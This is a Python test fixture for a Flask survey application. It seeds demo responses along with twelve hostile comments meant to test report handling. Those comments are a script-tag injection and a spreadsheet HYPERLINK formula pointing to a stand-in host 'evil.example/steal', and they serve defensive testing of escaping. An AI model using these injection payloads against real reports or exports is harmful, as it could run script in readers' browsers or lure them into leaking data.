"""Responses for report tests: the demo survey plus a group whose comments try to attack."""

from __future__ import annotations

import uuid
from datetime import date, datetime, timedelta

from flask import Flask
from sqlalchemy import select

from app.extensions import db
from app.models import Answer, Area, CommunityGroup, Invitation, Response
from app.services import reporting
from app.services.demo_data import seed_demo
from app.survey.context import default_questionnaire

TODAY = date(2026, 6, 30)
SCRIPT = "<script>alert('x')</script> The nurses were kind and the doctor explained everything."
FORMULA = '=HYPERLINK("http://evil.example/steal","click") staff were rude and nobody told us.'
ATTACK_GROUP = "muslim-burial"


def seed_reports(app: Flask, responses: int = 400) -> None:
    """The demo areas and groups with ``responses`` responses, then 12 hostile comments."""
    with app.app_context():
        session = db.session()
        seed_demo(session, default_questionnaire(), responses=responses, seed=11, today=TODAY)
        add_comment_responses(app, "north-riverside", ATTACK_GROUP, [SCRIPT, FORMULA] * 6)
        reporting.clear_caches()


def add_comment_responses(
    app: Flask, area_slug: str, group_slug: str | None, comments: list[str], rating: str = "good"
) -> None:
    """Submitted responses with an overall rating and one comment each."""
    with app.app_context():
        session = db.session()
        area_id = session.scalar(select(Area.id).where(Area.slug == area_slug))
        group_id = (
            session.scalar(select(CommunityGroup.id).where(CommunityGroup.slug == group_slug))
            if group_slug
            else None
        )
        moment = datetime(2026, 5, 1, 12, 0)
        for number, comment in enumerate(comments):
            response = Response(
                response_id=str(uuid.uuid4()),
                questionnaire_id="voices-core",
                questionnaire_version=1,
                channel="web",
                language="en",
                status="submitted",
                area_id=area_id,
                community_group_id=group_id,
                started_at=moment,
                updated_at=moment + timedelta(minutes=number),
                submitted_at=moment + timedelta(minutes=number),
            )
            session.add(response)
            session.flush()
            session.add_all(
                [
                    Answer(response_id=response.id, item_id="overall.rating", value=rating),
                    Answer(response_id=response.id, item_id="overall.improve", value=comment),
                ]
            )
        session.commit()


def add_invitations(app: Flask, area_slug: str, count: int) -> None:
    with app.app_context():
        session = db.session()
        area_id = session.scalar(select(Area.id).where(Area.slug == area_slug))
        for _ in range(count):
            session.add(
                Invitation(
                    token_hash=uuid.uuid4().hex + uuid.uuid4().hex[:32],
                    area_id=area_id,
                    language="en",
                    questionnaire_id="voices-core",
                )
            )
        session.commit()
